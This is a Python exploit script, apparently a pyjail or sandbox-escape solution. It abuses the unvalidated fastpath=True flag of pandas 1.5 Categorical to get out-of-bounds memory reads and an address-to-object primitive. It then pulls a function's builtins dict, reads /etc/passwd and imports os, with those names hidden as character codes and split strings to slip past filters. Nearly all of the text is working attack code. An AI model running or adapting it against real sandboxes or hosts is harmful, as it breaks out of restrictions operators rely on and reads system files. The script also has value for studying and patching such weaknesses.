# source: pandas 1.5 Categorical.__init__(fastpath=True) takes codes unvalidated; take_1d_* cython boundscheck(False); pyjail addr->object technique
# family: memory safety - public constructor flag skips validation (Categorical(codes, dtype=..., fastpath=True)) -> OOB read + addr->object fetch
# goal: builtins dict via func_builtins, open() -> /etc/passwd, __import__ -> os
import numpy as np
import pandas as pd

N = 4400000
raw = np.arange(N, dtype=np.int64).tobytes()
dti = pd.CategoricalDtype(pd.Index(np.frombuffer(raw, dtype=np.int64)))
base = id(raw) + 32


def rd(addr):
    k = np.array([(addr - base) // 8], dtype=np.int64)
    return int(np.asarray(pd.Categorical(k, dtype=dti, fastpath=True))[0])


objs = pd.Index(np.arange(N).astype(object), dtype=object)
dto = pd.CategoricalDtype(objs)
probe = pd.Categorical(np.array([0]), dtype=dto, fastpath=True)
obase = rd(id(probe.categories.values) + 16)


def fetch(addr):
    k = np.array([(addr - obase) // 8], dtype=np.int64)
    return np.asarray(pd.Categorical(k, dtype=dto, fastpath=True))[0]


def f():
    return 0


b = fetch(id(f) + 24)
print("builtins dict:", type(b), len(b))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
u = chr(95) * 2
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
